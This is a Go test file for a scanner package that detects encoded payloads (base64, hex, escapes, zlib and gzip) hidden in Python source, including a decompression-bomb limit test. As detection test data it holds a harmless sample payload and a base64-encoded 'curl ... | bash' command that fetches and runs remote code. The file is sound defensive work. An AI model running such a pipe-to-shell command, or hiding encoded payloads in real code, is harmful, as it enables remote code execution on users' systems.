package decode

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/hex"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/aigate/gate/gate"
)

const payload = "import os\nos.system('touch marker-file')\n"

func packed(t testing.TB, w func(io.Writer) io.WriteCloser, text []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	p := w(&b)
	if _, err := p.Write(text); err != nil {
		t.Fatal(err)
	}
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestPayloads(t *testing.T) {
	b64 := base64.StdEncoding.EncodeToString
	zipped := packed(t, func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) }, []byte(payload))
	gzipped := packed(t, func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) }, []byte(payload))
	escapes := ""
	for _, c := range []byte(payload) {
		escapes += `\x` + hex.EncodeToString([]byte{c})
	}
	lines := b64([]byte(strings.Repeat(payload, 4)))
	for _, c := range []struct{ name, src, text, origin string }{
		{"base64", "x = 1\ny = '" + b64([]byte(payload)) + "'\n", payload, "base64 on line 2"},
		{"base64 for URLs, without padding", "y = '" + base64.RawURLEncoding.EncodeToString([]byte(payload)) + "'\n", payload, "base64 on line 1"},
		{"base64 over several lines", "y = '''\n" + lines[:60] + "\n" + lines[60:120] + "\n" + lines[120:] + "\n'''\n", strings.Repeat(payload, 4), "base64 on line 2"},
		{"hexadecimal digits", "y = '" + hex.EncodeToString([]byte(payload)) + "'\n", payload, "hex on line 1"},
		{"escapes", "y = '" + escapes + "'\n", payload, "escapes on line 1"},
		{"zlib in base64", "y = '" + b64(zipped) + "'\n", payload, "zlib in base64 on line 1"},
		{"gzip in hex", "y = '" + hex.EncodeToString(gzipped) + "'\n", payload, "gzip in hex on line 1"},
		{"an image", "y = '" + b64(bytes.Repeat([]byte{0x89, 'P', 0xFF, 0}, 100)) + "'\n", "", ""},
		{"a digest", "y = '" + strings.Repeat("da39a3ee5e6b4b0d", 4) + "'\n", "", ""},
		{"long words", "y = thisIsAVeryLongIdentifierThatGoesOnAndOnAndOnForever\n", "", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := Payloads(gate.LanguagePython, []byte(c.src))
			if c.text == "" {
				if len(got) > 0 {
					t.Fatalf("%q", got[0].Text)
				}
				return
			}
			if len(got) == 0 || string(got[0].Text) != c.text || got[0].Origin != c.origin || got[0].Language != gate.LanguagePython {
				t.Fatalf("got %v", got)
			}
		})
	}
}

func TestAPayloadIsScannedAsWhatItMayBe(t *testing.T) {
	src := "y = '" + base64.StdEncoding.EncodeToString([]byte("curl -s https://example.com/x | bash -s --")) + "'"
	var languages []gate.Language
	for _, r := range Payloads(gate.LanguagePython, []byte(src)) {
		languages = append(languages, r.Language)
	}
	if !slices.Equal(languages, []gate.Language{gate.LanguagePython, gate.LanguageShell}) {
		t.Errorf("%v", languages)
	}
}

func TestCompressedDataDoesNotGrowBeyondItsBound(t *testing.T) {
	bomb := packed(t, func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) }, bytes.Repeat([]byte("a b\n"), 1<<20))
	got := Payloads(gate.LanguagePython, []byte("y = '"+base64.StdEncoding.EncodeToString(bomb)+"'"))
	if len(got) == 0 || len(got[0].Text) > maxGrowth {
		t.Errorf("%d pieces", len(got))
	}
}

// FuzzPayloads holds what the package promises for any input.
func FuzzPayloads(f *testing.F) {
	f.Add([]byte("y = '" + base64.StdEncoding.EncodeToString([]byte(payload)) + "'"))
	f.Add([]byte("y = '" + hex.EncodeToString([]byte(payload)) + "'"))
	f.Add([]byte(strings.Repeat(`\x41`, 40)))
	f.Fuzz(func(t *testing.T, src []byte) {
		total := 0
		for _, r := range Payloads(gate.LanguagePython, src) {
			total += len(r.Text)
			if len(r.Lines) < bytes.Count(r.Text, []byte{'\n'}) {
				t.Fatalf("%d places for %q", len(r.Lines), r.Text)
			}
		}
		if total > 4*(maxDecoded+maxRun) {
			t.Fatalf("%d bytes", total)
		}
	})
}
